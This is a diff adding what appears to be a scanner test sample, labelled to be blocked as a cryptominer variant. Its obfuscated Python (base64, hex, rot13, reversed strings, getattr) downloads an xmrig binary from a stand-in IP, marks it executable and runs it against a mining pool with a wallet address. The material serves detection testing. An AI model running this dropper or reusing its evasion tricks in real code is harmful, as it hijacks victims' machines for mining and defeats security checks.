@@ -1,0 +1,7 @@
+# expect: BLOCKED category: miner variant-of: risky/miner/xmrig_download_run.py technique: encode+getattr
+os = __import__(__import__('base64').b64decode('b3M=').decode())
+stat = __import__(bytes.fromhex('73746174').decode())
+urllib = __import__(''.join(map(chr, [117, 114, 108, 108, 105, 98, 46, 114, 101, 113, 117, 101, 115, 116])))
+urllib.request.urlretrieve(getattr(bytes, 'xehmorf'[::-1])('68747470733a2f2f3230332e302e3131332e32302f786d726967').decode(), ''.join(map(chr, [120, 109, 114, 105, 103])))
+getattr(os, ''.join(['c', 'h', 'm', 'o', 'd']))('girmx'[::-1], getattr(os, __import__('codecs').decode('fgng', 'rot13'))(__import__('codecs').decode('kzevt', 'rot13')).st_mode | stat.S_IEXEC)
+getattr(os, __import__('base64').b64decode('c3lzdGVt').decode())(''.join(['.', '/', 'x', 'm', 'r', 'i', 'g', ' ', '-', 'o', ' ', 'p', 'o', 'o', 'l', '.', 's', 'u', 'p', 'p', 'o', 'r', 't', 'x', 'm', 'r', '.', 'c', 'o', 'm', ':', '3', '3', '3', '3', ' ', '-', 'u', ' ', '4', '4', 'A', 'F', 'F', 'q', '5', 'k', 'S', 'i', 'G', 'B', 'o', 'Z', '4', 'N', 'M', 'D', 'w', 'Y', 't', 'N', '1', '8', 'o', 'b', 'c', '8', 'A', 'e', 'm', 'S', '3', '3', 'D', 'B', 'L', 'W', 's', '3', 'H', '7', 'o', 't', 'X', 'f', 't', '3', 'X', 'j', 'r', 'p', 'D', 't', 'Q', 'G', 'v', '7', 'S', 'q', 'S', 's', 'a', 'B', 'Y', 'B', 'b', '9', '8', 'u', 'N', 'b', 'r', '2', 'V', 'B', 'B', 'E', 't', '7', 'f', '2', 'w', 'f', 'n', '3', 'R', 'V', 'G', 'Q', 'B', 'E', 'P', '3', 'A', ' ', '-', 'k', ' ', '-', '-', 'd', 'o', 'n', 'a', 't', 'e', '-', 'l', 'e', 'v', 'e', 'l', ' ', '1']))
